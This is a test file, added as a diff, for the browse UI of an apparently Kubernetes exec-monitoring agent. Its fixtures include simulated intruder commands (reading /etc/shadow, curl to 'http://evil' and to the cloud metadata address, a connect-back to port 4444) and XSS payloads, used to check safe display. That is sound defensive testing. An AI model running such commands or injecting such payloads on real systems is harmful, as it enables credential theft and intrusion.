@@ -1,0 +1,308 @@
+/// <reference lib="dom" />
+// The browse page's views in headless Chromium over the agent's own API: the process panel
+// (ancestors, children, exit, an exec session in order, copyable JSON, permalinks), the table's
+// badges, toggles and keys, the histogram against the API's counts and its drag-to-zoom, the counts
+// by namespace → workload → pod, a download of what is shown, and hostile argv in each of them.
+import { readFileSync } from 'node:fs';
+import type { Page } from 'playwright-core';
+import t, { type Test } from 'tap';
+import { buildApiApp } from '../src/http/api-app.js';
+import { eventRecord } from '../src/events/record.js';
+import { EventStore } from '../src/events/store.js';
+import { EventHub } from '../src/events/stream.js';
+import type { AgentEvent, ExecEvent } from '../src/events/schema.js';
+import { launchChromium, watchedPage, type WatchedPage } from './helpers/chromium.js';
+import { makeEvent, makeGap, makeThrottle } from './helpers/events.js';
+import { screenshot, VIEWPORTS } from './helpers/screenshots.js';
+
+const store = new EventStore({ maxEvents: 5000 });
+const hub = new EventHub({ maxQueue: 256, onOverflow: () => undefined });
+const app = buildApiApp({ store, hub, logLevel: 'fatal', heartbeatMs: 1000 });
+const base = await app.listen({ host: '127.0.0.1', port: 0 });
+const browser = await launchChromium();
+t.teardown(async () => {
+  await browser.close();
+  await app.close();
+});
+
+const publish = (event: AgentEvent) => {
+  const record = eventRecord(event);
+  store.push(record);
+  hub.publish(record);
+};
+
+/** A fresh tab (at `size`) that records dialogs and page errors. */
+async function open(t: Test, path: string, size: keyof typeof VIEWPORTS = 'desktop'): Promise<WatchedPage> {
+  const watched = await watchedPage(browser.context);
+  const { page } = watched;
+  t.teardown(() => page.close());
+  await page.setViewportSize(VIEWPORTS[size]);
+  await page.goto(`${base}${path}`);
+  return watched;
+}
+
+const seqsShown = (page: Page) =>
+  page.locator('#events tbody tr').evaluateAll((rows) => rows.map((r) => Number((r as HTMLElement).dataset.seq)));
+const texts = (page: Page, selector: string) => page.locator(selector).allTextContents();
+
+/** A process of namespace `ns`: its execId, its parent's, and its ancestors as the agent lists them. */
+function proc(ns: string, pid: number, argv: string[], parent: ExecEvent | null, overrides: Partial<ExecEvent> = {}): ExecEvent {
+  const execId = `${ns}.${pid}`;
+  const ancestors = parent === null ? [] : [{ execId: parent.execId, pid: parent.pid, comm: parent.comm, filename: parent.filename, argv: parent.argv }, ...parent.ancestors];
+  return makeEvent({
+    namespace: ns, pid, tid: pid, ppid: parent?.pid ?? 1, execId, parentExecId: parent?.execId ?? 'none',
+    comm: (argv[0] ?? '').slice(0, 15), filename: `/usr/bin/${argv[0]}`, argv, argc: argv.length, ancestors, ...overrides,
+  });
+}
+
+t.test('the process panel: ancestors, children collapsed, exit, JSON, and a permalink that reopens it', async (t) => {
+  const top = proc('chain', 100, ['sh', '-c', 'outer'], null);
+  const mid = proc('chain', 101, ['sh', '-c', 'inner'], top);
+  const sleeps = [102, 103, 104].map((pid) => proc('chain', pid, ['sleep', '1'], mid, { exit: { time: '2026-11-24T16:02:05.000000000Z', status: 'ok', code: 0, signal: null, coreDumped: false, duration: 1.001 } }));
+  const leaf = proc('chain', 105, ['chain-marker', '--x'], mid, { exit: { time: '2026-11-24T16:02:05.000000000Z', status: 'error', code: 3, signal: null, coreDumped: false, duration: 0.5 } });
+  for (const e of [top, mid, ...sleeps, leaf]) publish(e);
+  const { page, errors } = await open(t, '/?namespace=chain');
+  await page.locator(`tr[data-seq="${leaf.seq}"]`).waitFor();
+
+  await page.locator(`tr[data-seq="${mid.seq}"] td.where`).click();
+  await page.locator('#panel .children').waitFor();
+  t.equal(await page.locator('#panel-title').textContent(), "sh -c inner", 'the panel names the process by its command');
+  t.same(await texts(page, '#panel .lineage li'), ['100 sh -c outer', '101 sh -c inner'], 'ancestors, oldest first, down to the process');
+  t.same(await page.locator('#panel .children li').evaluateAll((lis) => lis.map((li) => [li.querySelector('a')?.textContent, (li as HTMLElement).dataset.count])), [
+    ['104 sleep 1', '3'],
+    ['105 chain-marker --x', '1'],
+  ], 'the three `sleep 1` collapse into one line with their count, the marker beside them');
+  t.match(await page.locator('#panel .children li').first().textContent(), /×3/, 'the count is shown');
+  t.equal(new URL(page.url()).searchParams.get('open'), mid.execId, 'the open process is in the URL');
+
+  await page.locator('#panel .children a', { hasText: 'chain-marker' }).click();
+  await page.waitForFunction((id) => new URL(location.href).searchParams.get('open') === id, leaf.execId);
+  await page.locator('#panel .lineage li:nth-child(3)').waitFor();
+  t.same(await texts(page, '#panel .lineage li'), ['100 sh -c outer', '101 sh -c inner', '105 chain-marker --x'], 'the child opens with both ancestors');
+  t.match(await page.locator('#panel .facts').textContent(), 'exit 3 after 0.500 s', 'its exit');
+  const json = JSON.parse((await page.locator('#panel pre.json').textContent()) as string) as ExecEvent;
+  t.same(json, JSON.parse(JSON.stringify(leaf)), 'the full event as JSON');
+  await browser.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: base });
+  await page.locator('#panel button.copy').click();
+  t.same(JSON.parse(await page.evaluate(() => navigator.clipboard.readText())), json, 'copied as shown');
+
+  // The permalink: another tab opens on the same process.
+  const permalink = page.url();
+  const { page: again } = await open(t, permalink.slice(base.length));
+  await again.locator('#panel .lineage li:nth-child(3)').waitFor();
+  t.equal(await again.locator('#panel').isVisible(), true, 'the permalink opens the panel');
+  t.same(await texts(again, '#panel .lineage li'), ['100 sh -c outer', '101 sh -c inner', '105 chain-marker --x'], 'on the same process');
+  t.equal(await again.inputValue('input[name="namespace"]'), 'chain', 'with the same filters');
+
+  await page.keyboard.press('Escape');
+  await page.locator('#panel').waitFor({ state: 'hidden' });
+  t.equal(new URL(page.url()).searchParams.get('open'), null, 'closed: out of the URL');
+  t.same(errors, [], 'no page errors');
+});
+
+t.test('an exec session lists its commands in order', async (t) => {
+  const shim = proc('sess', 200, ['runc', 'exec'], null);
+  const shell = proc('sess', 201, ['bash'], shim, { origin: 'exec', sessionExecId: 'sess.201' });
+  const typed = [['id'], ['cat', '/etc/passwd'], ['curl', '-s', 'http://evil']].map((argv, i) =>
+    proc('sess', 202 + i, argv, shell, { origin: 'exec', sessionExecId: 'sess.201', retval: i === 1 ? -13 : 0 }));
+  for (const e of [shim, shell, ...typed]) publish(e);
+  const { page, errors } = await open(t, `/?namespace=sess&open=${shell.execId}`);
+  await page.locator('#panel .session li:nth-child(4)').waitFor();
+  const session = await page.locator('#panel .session li a').allTextContents();
+  t.same(session, ['201 bash', '202 id', '203 cat /etc/passwd', '204 curl -s http://evil'], 'the shell that entered, then every command of the session, oldest first');
+  t.match(await page.locator('#panel .session li:nth-child(3)').textContent(), '✗ EACCES', 'a failed one marked');
+  t.same(await texts(page, `tr[data-seq="${shell.seq}"] td.origin .badge`), ['exec'], 'the opener has the exec badge in the table');
+  t.same(errors, [], 'no page errors');
+});
+
+t.test('badges, quick toggles and keys', async (t) => {
+  const probe = makeEvent({ namespace: 'keys', origin: 'probe', argv: ['cat', '/ready'] });
+  const failed = makeEvent({ namespace: 'keys', retval: -2, argv: ['nope'] });
+  const exec = makeEvent({ namespace: 'keys', origin: 'exec', sessionExecId: 'keys.1', argv: ['bash'] });
+  const drift = makeEvent({ namespace: 'keys', drift: true, argv: ['/tmp/x'] });
+  const fileless = makeEvent({ namespace: 'keys', fileless: true, origin: 'debug', sessionExecId: 'keys.2', argv: ['memfd:x'] });
+  for (const e of [probe, failed, exec, drift, fileless]) publish(e);
+  const { page, errors } = await open(t, '/?namespace=keys');
+  await page.locator(`tr[data-seq="${fileless.seq}"]`).waitFor();
+  t.same(await texts(page, `tr[data-seq="${fileless.seq}"] .badge`), ['debug', 'fileless'], 'origin and fileless badges');
+  t.same(await texts(page, `tr[data-seq="${drift.seq}"] .badge`), ['drift'], 'drift badge');
+  t.same(await texts(page, `tr[data-seq="${probe.seq}"] .badge`), ['probe'], 'probe badge');
+
+  const cases = [
+    ['hideProbes', [fileless, drift, exec, failed]],
+    ['failures', [failed]],
+    ['sessions', [fileless, exec]],
+    ['unusual', [fileless, drift]],
+  ] as const;
+  for (const [toggle, want] of cases) {
+    await page.check(`input[name="${toggle}"]`);
+    await page.waitForFunction((n) => document.querySelectorAll('#events tbody tr').length === n, want.length);
+    t.same(await seqsShown(page), want.map((e) => e.seq), `${toggle}: only those rows`);
+    t.equal(new URL(page.url()).searchParams.get(toggle), '1', `${toggle} in the URL`);
+    await page.uncheck(`input[name="${toggle}"]`);
+  }
+  await page.waitForFunction(() => document.querySelectorAll('#events tbody tr').length === 5);
+
+  await page.locator('h1').click();
+  await page.keyboard.press('/');
+  t.equal(await page.evaluate(() => (document.activeElement as HTMLInputElement | null)?.name), 'q', '`/` goes to the search');
+  await page.keyboard.press('Escape');
+  await page.keyboard.press('j');
+  await page.keyboard.press('j');
+  await page.keyboard.press('k');
+  await page.keyboard.press('j');
+  t.equal(await page.locator('tr.selected').getAttribute('data-seq'), String(drift.seq), 'j, j, k, j: the second row');
+  await page.keyboard.press('Enter');
+  await page.locator('#panel .facts').waitFor();
+  t.match(await page.locator('#panel-title').textContent(), '/tmp/x', 'Enter opens it');
+  await page.keyboard.press('Escape');
+  await page.locator('#panel').waitFor({ state: 'hidden' });
+  t.same(errors, [], 'no page errors');
+});
+
+t.test('the histogram counts what the API counts; a drag zooms the URL and the table', async (t) => {
+  const T0 = Date.UTC(2026, 10, 25, 9, 0, 0);
+  // 40 execs over two minutes, uneven, a few failed and a few probes.
+  const events = Array.from({ length: 40 }, (_, i) => makeEvent({
+    namespace: 'hist', pod: `web-${i % 3}`, time: new Date(T0 + Math.floor((i * i * 120_000) / 1600)).toISOString().replace('Z', '250000Z'),
+    retval: i % 7 === 0 ? -2 : 0, origin: i % 5 === 0 ? 'probe' : 'workload', argv: ['tick', String(i)],
+  }));
+  for (const e of events) publish(e);
+  const { page, errors } = await open(t, '/?namespace=hist');
+  await page.locator(`tr[data-seq="${events[39]?.seq}"]`).waitFor();
+  const bins = await page.locator('#histogram g.bin').evaluateAll((gs) => gs.map((g) => ({ start: g.getAttribute('data-start'), end: g.getAttribute('data-end'), count: Number(g.getAttribute('data-count')) })));
+  t.equal(bins.reduce((n, b) => n + b.count, 0), 40, 'every exec in some bar');
+  const api = async (query: string) => ((await (await fetch(`${base}/api/events?${query}&limit=10000`)).json()) as { events: ExecEvent[] }).events.length;
+  for (const b of bins.filter((_, i) => i % 6 === 0 || i === bins.length - 1)) {
+    t.equal(b.count, await api(`namespace=hist&since=${b.start}&until=${b.end}`), `bar ${b.start}: as the API counts it`);
+  }
+  const failedBars = await page.locator('#histogram rect.stack-failed').evaluateAll((rs) => rs.reduce((n, r) => n + Number(r.getAttribute('data-count')), 0));
+  t.equal(failedBars, events.filter((e) => e.retval !== 0).length, 'stacked by result: the failed part');
+  await page.selectOption('#stack', 'origin');
+  const probeBars = await page.locator('#histogram rect.stack-probe').evaluateAll((rs) => rs.reduce((n, r) => n + Number(r.getAttribute('data-count')), 0));
+  t.equal(probeBars, events.filter((e) => e.origin === 'probe').length, 'stacked by origin: the probes');
+  t.equal(new URL(page.url()).searchParams.get('stack'), 'origin', 'the stacking in the URL');
+
+  t.same(await page.locator('#groups > li > .name').allTextContents(), ['hist'], 'the namespace');
+  t.same(await page.locator('#groups .depth-2 .name').allTextContents(), ['web-0', 'web-1', 'web-2'], 'its pods, the most first');
+  t.equal(await page.locator('#groups .spark').count(), 5, 'a sparkline each: namespace, workload, three pods');
+
+  const box = (await page.locator('#histogram').boundingBox()) as { x: number; y: number; width: number; height: number };
+  await page.mouse.move(box.x + box.width * 0.5, box.y + box.height / 2);
+  await page.mouse.down();
+  await page.mouse.move(box.x + box.width * 0.7, box.y + box.height / 2, { steps: 4 });
+  await page.mouse.up();
+  await page.waitForFunction(() => new URL(location.href).searchParams.has('until'));
+  const url = new URL(page.url());
+  const since = url.searchParams.get('since') as string;
+  const until = url.searchParams.get('until') as string;
+  t.ok(Date.parse(since) > T0 && Date.parse(until) < T0 + 120_000 && since < until, `zoomed to ${since} – ${until}`);
+  const want = await api(`namespace=hist&since=${since}&until=${until}`);
+  t.ok(want > 0 && want < 40, `some of the execs fall in it (${want})`);
+  await page.waitForFunction((n) => document.querySelectorAll('#events tbody tr').length === n, want);
+  const times = await page.locator('#events tbody td.time a').evaluateAll((as) => as.map((a) => (a as HTMLElement).title.split(':').slice(0, 3).join(':')));
+  t.ok(times.every((time) => time >= since.replace('Z', '') && time < until.replace('Z', '999999')), 'the table holds the window only');
+  t.equal((await page.locator('#histogram g.bin').evaluateAll((gs) => gs.map((g) => Number(g.getAttribute('data-count'))))).reduce((a, b) => a + b, 0), want, 'the histogram spans the window');
+
+  await page.locator('#groups button.name', { hasText: 'web-1' }).click();
+  await page.waitForFunction(() => new URL(location.href).searchParams.get('pod') === 'web-1');
+  t.same([...new Set(await texts(page, '#events td.where'))], ['hist/web-1/app'], 'a click on a pod filters on it');
+  t.same(errors, [], 'no page errors');
+});
+
+t.test('download as JSON lines: what is shown', async (t) => {
+  const { page } = await open(t, '/?namespace=keys&failures=1');
+  await page.waitForFunction(() => document.querySelectorAll('#events tbody tr').length === 1);
+  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#download')]);
+  const lines = readFileSync(await download.path(), 'utf8').trimEnd().split('\n').map((line) => JSON.parse(line) as ExecEvent);
+  t.same(lines.map((e) => [e.namespace, e.retval]), [['keys', -2]], 'one line per row shown, the full event');
+  t.match(download.suggestedFilename(), /^execwatch-.*\.jsonl$/, 'a .jsonl file');
+});
+
+t.test('screenshots of the main views at both sizes', async (t) => {
+  // A quarter of an hour of a small cluster's namespace, in a window of its own: probes every
+  // few seconds, a deployment's workers, a `kubectl exec` session, a throttle and a gap.
+  const T0 = Date.UTC(2026, 11, 1, 10, 0, 0);
+  const at = (s: number) => new Date(T0 + s * 1000).toISOString().replace('Z', '417000Z');
+  const workload = (name: string) => ({ kind: 'Deployment', name });
+  let pid = 7000;
+  const demo: ExecEvent[] = [];
+  for (let s = 0; s < 900; s += 10) {
+    demo.push(makeEvent({ namespace: 'shop', pod: 'web-7d9f8-abcde', workload: workload('web'), time: at(s), pid: pid++, origin: 'probe', comm: 'curl', filename: '/usr/bin/curl', argv: ['curl', '-sf', 'http://localhost:8080/healthz'], retval: 0 }));
+    if (s % 40 === 0) demo.push(makeEvent({ namespace: 'payments', pod: 'worker-5c6b-x2k9p', container: 'worker', workload: workload('worker'), time: at(s + 3), pid: pid++, comm: 'python3', filename: '/usr/bin/python3', argv: ['python3', '-m', 'worker.settle', '--batch=500'] }));
+    if (s > 300 && s < 420) demo.push(makeEvent({ namespace: 'payments', pod: 'worker-5c6b-x2k9p', container: 'worker', workload: workload('worker'), time: at(s + 5), pid: pid++, comm: 'psql', filename: '/usr/bin/psql', argv: ['psql', '-c', 'select 1'], retval: s % 30 === 0 ? -13 : 0 }));
+  }
+  const shell = makeEvent({ namespace: 'shop', pod: 'web-7d9f8-abcde', workload: workload('web'), time: at(600), pid: 9100, execId: 'demo.9100', comm: 'bash', filename: '/bin/bash', argv: ['bash'], origin: 'exec', sessionExecId: 'demo.9100' });
+  const typed = [['id'], ['cat', '/etc/shadow'], ['curl', '-s', 'http://169.254.169.254/latest/meta-data/'], ['/tmp/x', '--connect', '10.0.0.7:4444']].map((argv, i) =>
+    makeEvent({ namespace: 'shop', pod: 'web-7d9f8-abcde', workload: workload('web'), time: at(610 + i * 20), pid: 9101 + i, execId: `demo.${9101 + i}`, parentExecId: 'demo.9100', comm: (argv[0] as string).split('/').pop() as string,
+      filename: (argv[0] as string).startsWith('/') ? (argv[0] as string) : `/usr/bin/${argv[0]}`, argv, origin: 'exec', sessionExecId: 'demo.9100', retval: i === 1 ? -13 : 0, drift: i === 3,
+      ancestors: [{ execId: 'demo.9100', pid: 9100, comm: 'bash', filename: '/bin/bash', argv: ['bash'] }] }));
+  for (const e of [...demo, shell, ...typed].sort((a, b) => (a.time < b.time ? -1 : 1))) publish(e);
+  publish(makeThrottle({ seq: 990_010, phase: 'start', suppressed: 0, namespace: 'payments', pod: 'worker-5c6b-x2k9p', time: at(330) }));
+  publish(makeThrottle({ seq: 990_011, phase: 'stop', suppressed: 214, namespace: 'payments', pod: 'worker-5c6b-x2k9p', time: at(420) }));
+  const window = `since=${new Date(T0).toISOString()}&until=${new Date(T0 + 900_000).toISOString()}`;
+  for (const size of ['desktop', 'phone'] as const) {
+    const { page, errors } = await open(t, `/?${window}`, size);
+    await page.locator('#banner').waitFor();
+    await screenshot(page, `browse-${size}`);
+    const width = await page.evaluate(() => document.documentElement.scrollWidth);
+    t.ok(width <= VIEWPORTS[size].width + 1, `${size}: no sideways scrolling (${width}px)`);
+    await page.goto(`${base}/?${window}&origin=exec&open=demo.9100`);
+    await page.locator('#panel .session li:nth-child(5)').waitFor();
+    await screenshot(page, `session-${size}`);
+    t.same(errors, [], `${size}: no page errors`);
+  }
+  const { page: chain } = await open(t, `/?namespace=chain&open=chain.101`);
+  await chain.locator('#panel .children').waitFor();
+  await screenshot(chain, 'chain-desktop');
+});
+
+t.test('hostile argv, names and pods in every view are text and run nothing', async (t) => {
+  const html = '<img src=x onerror=alert(1)>';
+  const control = '\x1b[31mred\x1b[0m\r\n\x07';
+  const big = 'A'.repeat(100 * 1024);
+  // \xff\xfe is not UTF-8: the agent sends U+FFFD in argv and the exact bytes in argvBase64.
+  const bytes = Buffer.concat([Buffer.from('evil\0'), Buffer.from([0x66, 0xff, 0xfe, 0x27]), Buffer.from(`\0${html}`)]);
+  const parent = proc('xss', 300, ['sh', html], null, { pod: '<svg onload=alert(2)>', workload: { kind: 'Deployment', name: '<b>w</b>' } });
+  const evil = proc('xss', 301, ['evil', 'f\ufffd\ufffd\'', html], parent, { argvBase64: bytes.toString('base64'), pod: '<svg onload=alert(2)>', origin: 'exec', sessionExecId: 'xss.301' });
+  const child = proc('xss', 302, ['echo', control, big], evil, { origin: 'exec', sessionExecId: 'xss.301', pod: '<svg onload=alert(2)>' });
+  for (const e of [parent, evil, child]) publish(e);
+  publish(makeThrottle({ seq: 990_001, phase: 'start', suppressed: 0, namespace: 'xss', pod: '<script>alert(4)</script>', time: '2026-11-24T16:02:04.000000000Z' }));
+  const { page, dialogs, errors } = await open(t, `/?namespace=xss&open=${evil.execId}`);
+  await page.locator('#panel .session li:nth-child(2)').waitFor();
+  const cell = page.locator(`tr[data-seq="${evil.seq}"] td.argv`);
+  t.equal(await cell.textContent(), `evil $'f\\xff\\xfe\\'' '${html}'`, 'invalid UTF-8 shown byte for byte, pasteable');
+  t.equal(await page.locator(`tr[data-seq="${child.seq}"] td.argv .arg`).nth(1).textContent(), "$'\\x1b[31mred\\x1b[0m\\r\\n\\x07'", 'control characters escaped, not sent to the screen');
+  t.equal((await page.locator(`tr[data-seq="${child.seq}"] td.argv`).textContent())?.length, 100 * 1024 + "echo $'\\x1b[31mred\\x1b[0m\\r\\n\\x07' ".length, '100 KB of argv as text');
+  t.match(await page.locator('#panel-title').textContent(), html, 'the panel title as text');
+  t.match(await page.locator('#panel .lineage').textContent(), html, 'ancestors as text');
+  t.match(await page.locator('#panel .children').textContent(), 'AAAA', 'children as text');
+  t.match(await page.locator('#panel pre.json').textContent(), html, 'JSON as text');
+  t.match(await page.locator('#groups').textContent(), '<svg onload=alert(2)>', 'the pod in the overview as text');
+  t.match(await page.locator('#banner').textContent(), '<script>alert(4)</script>', 'a throttled pod in the banner as text');
+  t.equal(await page.locator('img').count(), 0, 'no img element');
+  t.equal(await page.locator('body script:not([src]), #events b, #panel b, #panel svg, #groups b, #banner script').count(), 0, 'no markup from events');
+  await page.keyboard.press('Escape');
+  await page.waitForTimeout(200);
+  t.same(dialogs, [], 'no dialog fired');
+  t.same(errors, [], 'no page errors');
+});
+
+t.test('the completeness banner: lost and throttled execs in the window, with what they mean', async (t) => {
+  const { page: before } = await open(t, '/?since=2026-11-24T16:30:00Z&until=2026-11-24T16:40:00Z');
+  await before.waitForFunction(() => document.querySelector('#status')?.textContent?.includes('execs'));
+  t.equal(await before.locator('#banner').isVisible(), false, 'no banner while nothing is missing');
+  publish(makeGap({ seq: 990_002, time: '2026-11-24T16:31:00.000000000Z', from: '2026-11-24T16:30:58.000000000Z', to: '2026-11-24T16:30:59.000000000Z', lost: 12 }));
+  publish(makeGap({ seq: 990_003, time: '2026-11-24T16:32:00.000000000Z', from: '2026-11-24T16:31:58.000000000Z', to: '2026-11-24T16:31:59.000000000Z', lost: 30 }));
+  publish(makeThrottle({ seq: 990_004, phase: 'start', suppressed: 0, time: '2026-11-24T16:31:30.000000000Z' }));
+  publish(makeThrottle({ seq: 990_005, phase: 'stop', suppressed: 1200, time: '2026-11-24T16:31:40.000000000Z' }));
+  const { page } = await open(t, '/?since=2026-11-24T16:30:00Z&until=2026-11-24T16:40:00Z');
+  await page.locator('#banner').waitFor();
+  const text = await page.locator('#banner').textContent();
+  t.match(text, '42 events lost in 2 gaps', 'the losses, added up');
+  t.match(text, 'ring buffer was full', 'and what they mean');
+  t.match(text, '1200 execs throttled in 1 episode (shop/web-1)', 'the throttled execs and whose');
+  const { page: outside } = await open(t, '/?since=2026-11-24T16:33:00Z&until=2026-11-24T16:40:00Z');
+  await outside.waitForFunction(() => document.querySelector('#status')?.textContent?.includes('execs'));
+  t.equal(await outside.locator('#banner').isVisible(), false, 'not for a window after them');
+});
